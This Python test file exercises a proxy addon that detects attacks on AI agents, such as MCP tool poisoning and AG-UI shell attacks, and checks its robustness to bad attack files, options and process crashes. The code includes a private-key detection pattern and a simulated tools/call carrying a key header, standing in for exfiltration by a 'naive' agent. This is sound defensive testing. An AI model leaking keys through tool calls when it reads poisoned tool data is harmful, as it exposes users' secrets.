"""Bad input end to end: attack files that are broken, change while loaded, or vanish; traffic for no loaded
attack; non-JSON and broken-JSON exchanges. The proxy keeps serving, never alters traffic, logs each load
problem once (file:line:col and rule), and the `oatf.reload` command and the watcher pick up changes."""

from __future__ import annotations

import json
import os
import re
import signal
import socket
import time
from pathlib import Path
from urllib.parse import urlsplit

from testing.clients import ag_ui_run, raw_exchange
from testing.oatf_proxy import ADDON, Peers, oatf_proxy, refused_start, run, verdict_of
from testing.processes import MITMDUMP, free_port, stop, tracebacks
from testing.processes import _start as start_process

from . import agents
from .attacks import AG_UI_SHELL, BROKEN_YAML, INVALID_DOCUMENT, NO_INDICATORS, TOOL_POISONING, tool_poisoning_variant
from .peers import BINARY_BODY, PLAIN_BODY

KEY = "BEGIN (OPENSSH|RSA) PRIVATE KEY"


def loads(log: str) -> list[tuple[int, int]]:
    """(attacks, problems) of each library load the log reports, in order."""
    return [(int(a), int(p)) for a, p in re.findall(r"oatf: (\d+) attack\(s\) loaded, (\d+) problem\(s\)", log)]


def test_bad_attack_files_reloads_and_unrelated_traffic(attackers: Peers, tmp_path: Path) -> None:
    """Broken/invalid/simulation-only/missing documents beside a good one; the good one changed (picked up by
    `oatf.reload`), then deleted while another is repaired (picked up by the watcher); A2A and AG-UI traffic
    with only MCP documents loaded; non-JSON bodies through the proxy."""
    library = tmp_path / "library"
    library.mkdir()
    broken, invalid, simulation_only = library / "broken.yaml", library / "invalid.yaml", library / "noind.yaml"
    broken.write_text(BROKEN_YAML, encoding="utf-8")
    invalid.write_text(INVALID_DOCUMENT, encoding="utf-8")
    simulation_only.write_text(NO_INDICATORS, encoding="utf-8")
    good, missing = tmp_path / "good.yaml", tmp_path / "missing.yaml"
    good.write_text(tool_poisoning_variant("E2E-RELOAD-001", KEY), encoding="utf-8")
    mcp = attackers.url("mcp_poisoned", "/mcp")

    with oatf_proxy(tmp_path, "bad-input", [library, good, missing], grace="30s", watch=False) as proxy:
        # Broken, invalid, simulation-only and missing documents: each reported once, where and why.
        problems = {
            f"{broken}:6:1: parse/syntax": 1, f"{invalid}:5:13: V-005 attack.severity": 1,
            f"{simulation_only}: no-indicators": 1, f"{missing}: unreadable": 1,
        }
        log = proxy.wait_for_log(lambda text: len(loads(text)) == 1)
        assert loads(log) == [(1, 4)]
        assert {line: log.count(line) for line in problems} == problems

        # ... and the valid document works beside them.
        first = run(agents.mcp_poisoned_agent(mcp, proxy.url, "naive"))

        # Changed while loaded, the watcher off: nothing moves until `oatf.reload`, which concludes the open
        # run of the changed attack (`reloaded`, with what it had seen) and loads the repaired file.
        good.write_text(tool_poisoning_variant("E2E-RELOAD-001", "NEVER-MATCHES-4242"), encoding="utf-8")
        broken.write_text(tool_poisoning_variant("E2E-FIXED-001", KEY), encoding="utf-8")
        assert proxy.reports() == []
        proxy.command("oatf.reload")
        reloaded = proxy.wait_for("E2E-RELOAD-001", first)
        assert reloaded["execution_summary"]["status"] == "reloaded"
        assert verdict_of(reloaded)[0] == "exploited"
        log = proxy.wait_for_log(lambda text: len(loads(text)) == 2)
        assert loads(log) == [(1, 4), (2, 3)]
        assert {line: log.count(line) for line in problems} == problems | {f"{broken}:6:1: parse/syntax": 1}

        second = run(agents.mcp_poisoned_agent(mcp, proxy.url, "naive"))

        # The watcher, turned on at run time: a document that vanishes and one repaired in the same poll.
        proxy.command("set oatf_watch true")
        good.unlink()
        invalid.write_text(tool_poisoning_variant("E2E-WATCHED-001", KEY), encoding="utf-8")
        changed = proxy.wait_for("E2E-RELOAD-001", second, timeout=10)
        assert changed["execution_summary"]["status"] == "reloaded"
        assert verdict_of(changed)[0] == "not_exploited"  # the new version's indicator did not match
        log = proxy.wait_for_log(lambda text: len(loads(text)) == 3)
        assert loads(log) == [(1, 4), (2, 3), (2, 3)]  # start, oatf.reload, watcher
        assert log.count(f"{good}: unreadable") == 1
        assert log.count(f"{simulation_only}: no-indicators") == 1 and log.count(f"{missing}: unreadable") == 1

        # Traffic for no loaded attack (only MCP documents are loaded): no run.
        assert "1 live run(s)" in proxy.command("oatf.status")  # E2E-FIXED-001 over the second session
        a2a_context, answer = run(agents.a2a_travel_agent(attackers.url("a2a"), proxy.url, "naive"))
        thread, events = run(agents.ag_ui_client(attackers.url("ag_ui"), proxy.url, "naive"))
        assert answer.startswith("Booked") and events[-1]["type"] == "RUN_FINISHED"
        assert "1 live run(s)" in proxy.command("oatf.status")

        # Non-JSON and broken-JSON exchanges pass through unaltered.
        broken_json = b'{"jsonrpc": "2.0", "id": 1, "method": "tools/call", "params": {"name": '
        exchanges = [("GET", "/plain", b"", {}, PLAIN_BODY), ("GET", "/binary", b"", {}, BINARY_BODY),
                     ("POST", "/echo", broken_json, {"content-type": "application/json"}, broken_json),
                     ("POST", "/echo", b"\xff\xfe\x00garbage", {"content-type": "text/event-stream"},
                      b"\xff\xfe\x00garbage")]
        for method, path, body, headers, expected in exchanges:
            url = attackers.url("ag_ui", path)
            direct = run(raw_exchange(method, url, None, body, headers))
            proxied = run(raw_exchange(method, url, proxy.url, body, headers))
            assert proxied[0] == direct[0] == 200 and proxied[2] == direct[2] == expected
            assert dict(proxied[1])["content-type"] == dict(direct[1])["content-type"]
        run(agents.mcp_poisoned_agent(mcp, proxy.url, "careful"))  # still serving MCP

        assert proxy.interrupt() == 0
        log = proxy.log()

    sessions = {(r["attack"]["id"], r["execution_summary"]["session"]): r for r in proxy.reports()}
    assert not [s for _, s in sessions if s.startswith(("a2a_context:", "ag_ui_thread:"))]
    assert a2a_context and thread
    fixed = sessions["E2E-FIXED-001", f"mcp_session:{second}"]
    # The agent closed the session: at the stop its run concludes as the clock would.
    assert (fixed["execution_summary"]["status"], verdict_of(fixed)[0]) == ("completed", "exploited")
    assert not tracebacks(log)


def test_bad_option_values(attackers: Peers, tmp_path: Path) -> None:
    """A bad `oatf_*` value at start-up: mitmdump refuses to start and says why, without a traceback. At run
    time (`set`): the error is logged, the previous settings stay in force and evaluation goes on."""
    text = refused_start(tmp_path, {"oatf_grace_period": "1.5s", "oatf_report_dir": str(tmp_path / "unused")})
    assert "oatf: invalid option: oatf_grace_period: invalid duration '1.5s'" in text
    assert "Traceback" not in text

    with oatf_proxy(tmp_path, "bad-option", [TOOL_POISONING]) as proxy:
        for command in ("set oatf_grace_period 1.5s", "set oatf_session_key bogus", "set oatf_wire_max_body 0"):
            proxy.command(command)
        proxy.wait_for_log(lambda text: text.count("oatf: invalid option") == 3)
        session = run(agents.mcp_poisoned_agent(attackers.url("mcp_poisoned", "/mcp"), proxy.url, "naive"))
        report = proxy.wait_for("DEMO-001", session)
        assert verdict_of(report)[0] == "exploited"
        assert report["execution_summary"]["grace_period_seconds"] == 1.0
        assert report["execution_summary"]["session"] == f"mcp_session:{session}"
    assert not tracebacks(proxy.log())


def test_strict_loading_and_mistyped_options_warn(tmp_path: Path) -> None:
    """At log level warning (info suppressed): a document whose indicator can never fire (mistyped surface)
    is refused with file:line:col, rule and suggestion; a directory without documents is a problem; with
    nothing loaded the proxy says it evaluates nothing; a mistyped `oatf_` option is named with a suggestion."""
    mistyped, empty, log = tmp_path / "mistyped.yaml", tmp_path / "empty", tmp_path / "strict.log"
    mistyped.write_text(TOOL_POISONING.read_text(encoding="utf-8").replace("surface: tools/call", "surface: tool/call"),
                        encoding="utf-8")
    empty.mkdir()
    process = start_process([str(MITMDUMP), "--listen-host", "127.0.0.1", "--listen-port", str(free_port()),
                             "-s", str(ADDON), "--set", "termlog_verbosity=warning",
                             "--set", f"oatf_attacks={mistyped},{empty}", "--set", "oatf_atacks=attacks/",
                             "--set", f"oatf_report_dir={tmp_path / 'reports'}"], log)
    try:
        deadline = time.monotonic() + 30
        while "unknown option" not in log.read_text(encoding="utf-8") and process.poll() is None:
            assert time.monotonic() < deadline, log.read_text(encoding="utf-8")
            time.sleep(0.1)
        assert process.poll() is None  # warnings only: the proxy keeps running
    finally:
        stop(process)
    text = log.read_text(encoding="utf-8")
    assert f"oatf: not loaded: {mistyped}:29:16: S-001 attack.indicators[0].surface: surface 'tool/call'" in text
    assert "did you mean 'tools/call'?" in text
    assert f"oatf: not loaded: {empty}: no-documents" in text
    assert "oatf: no attack loaded: the proxy evaluates nothing" in text
    assert "oatf: unknown option oatf_atacks is ignored; did you mean oatf_attacks?" in text
    assert "attack(s) loaded," not in text  # the info line is filtered: the lines above are warnings
    assert "Traceback" not in text


def test_lenient_loads_a_mistyped_document_with_a_warning(tmp_path: Path) -> None:
    mistyped = tmp_path / "mistyped.yaml"
    mistyped.write_text(TOOL_POISONING.read_text(encoding="utf-8").replace("surface: tools/call", "surface: tool/call"),
                        encoding="utf-8")
    with oatf_proxy(tmp_path, "lenient", [mistyped], options={"oatf_lenient": "true"}) as proxy:
        log = proxy.log()
    assert f"oatf: loaded anyway (oatf_lenient): {mistyped}:29:16: S-001" in log
    assert loads(log) == [(1, 0)] and "no attack loaded" not in log


def test_hostile_session_keys_cannot_suppress_reports(attackers: Peers, tmp_path: Path) -> None:
    """Session keys come from the traffic (AG-UI threadId and A2A contextId from the client, Mcp-Session-Id
    from the server): whatever they are, every run gets its own report file and its verdicts.jsonl line."""
    attack = tmp_path / "ag-ui.yaml"
    attack.write_text(AG_UI_SHELL, encoding="utf-8")
    threads = ["ctx/1", "ctx:1", "t" * 300, "after-the-long-one"]
    with oatf_proxy(tmp_path, "hostile", [attack], grace="60s") as proxy:
        for thread in threads:
            run(ag_ui_run(attackers.url("ag_ui", "/agent?behaviour=naive"), proxy.url, agents.run_agent_input(thread)))
        proxy.wait_until(lambda: "4 live run(s)" in proxy.command("oatf.status"))
        assert proxy.interrupt() == 0
    expected = sorted(f"ag_ui_thread:{thread}" for thread in threads)
    assert sorted(r["execution_summary"]["session"] for r in proxy.jsonl()) == expected
    assert sorted(r["execution_summary"]["session"] for r in proxy.reports()) == expected


def monitor_processes(proxy_pid: int) -> list[int]:
    """The addon's monitor process(es): children of mitmdump running `addon.monitor_process`."""
    found = []
    for proc in Path("/proc").iterdir():
        try:
            stat = (proc / "stat").read_text().rpartition(")")[2].split()
            command = (proc / "cmdline").read_bytes().replace(b"\0", b" ")
        except OSError:
            continue
        if stat[1] == str(proxy_pid) and b"addon.monitor_process" in command:
            found.append(int(proc.name))
    return found


def test_a_killed_monitor_process_is_replaced(attackers: Peers, tmp_path: Path) -> None:
    """The monitor process dies (killed here): the addon says so, starts a new one with the same library,
    and the next agent session is evaluated and reported as usual."""
    url = attackers.url("mcp_poisoned", "/mcp")
    with oatf_proxy(tmp_path, "respawn", [TOOL_POISONING]) as proxy:
        assert "1 attack(s) loaded" in proxy.command("oatf.status")  # running (an error at start-up ends mitmdump)
        [first] = monitor_processes(proxy.process.pid)
        os.kill(first, signal.SIGKILL)
        proxy.wait_for_log(lambda log: "starting a new monitor process" in log)
        assert "the monitor process ended unexpectedly" in proxy.log()
        proxy.wait_until(lambda: len(monitor_processes(proxy.process.pid)) == 1)  # logged as it is being started
        [second] = monitor_processes(proxy.process.pid)
        assert second != first
        session = run(agents.mcp_poisoned_agent(url, proxy.url, "naive"))
        report = proxy.wait_for("DEMO-001", session)
    assert verdict_of(report)[0] == "exploited"


def test_a_request_under_way_when_the_monitor_process_dies_is_judged_by_the_new_one(
        attackers: Peers, tmp_path: Path) -> None:
    """The monitor process decodes the traffic (`oatf_engine.wire.steps`): a `tools/call` whose headers it had
    been handed when it died, and whose body (the exfiltrated key) comes after, is decoded by the new one — the
    addon primes it with the steps of the exchanges under way. Without that the new process would not know the
    exchange and the exploit would pass unseen."""
    url = attackers.url("mcp_poisoned", "/mcp")
    with oatf_proxy(tmp_path, "primed", [TOOL_POISONING], grace="1h", record=False) as proxy:
        session = run(agents.mcp_poisoned_agent(url, proxy.url, "careful", close=False))
        body = json.dumps({"jsonrpc": "2.0", "id": 99, "method": "tools/call", "params": {
            "name": "add", "arguments": {"a": 1, "b": 2, "note": "-----BEGIN OPENSSH PRIVATE KEY-----"}}}).encode()
        cut = body.index(b'"note"')
        target = urlsplit(url)
        address = urlsplit(proxy.url)
        with socket.create_connection((address.hostname, address.port)) as upload:
            upload.sendall(f"POST {url} HTTP/1.1\r\nHost: {target.netloc}\r\nContent-Type: application/json\r\n"
                           f"Accept: application/json, text/event-stream\r\nMcp-Session-Id: {session}\r\n"
                           f"Content-Length: {len(body)}\r\n\r\n".encode() + body[:cut])
            time.sleep(1.5)  # the watermark releases the request's headers to the monitor process
            [first] = monitor_processes(proxy.process.pid)
            os.kill(first, signal.SIGKILL)
            proxy.wait_for_log(lambda log: "starting a new monitor process" in log)
            proxy.wait_until(lambda: len(monitor_processes(proxy.process.pid)) == 1)
            upload.sendall(body[cut:])
            upload.settimeout(10)
            assert upload.recv(100).startswith(b"HTTP/1.1 "), "the server answered"
            proxy.wait_for_log(lambda log: "DEMO-001-01 matched" in log)
        assert proxy.interrupt() == 0
    exploited = [r for r in proxy.reports() if verdict_of(r)[0] == "exploited"]
    assert [r["execution_summary"]["session"] for r in exploited] == [f"mcp_session:{session}"]
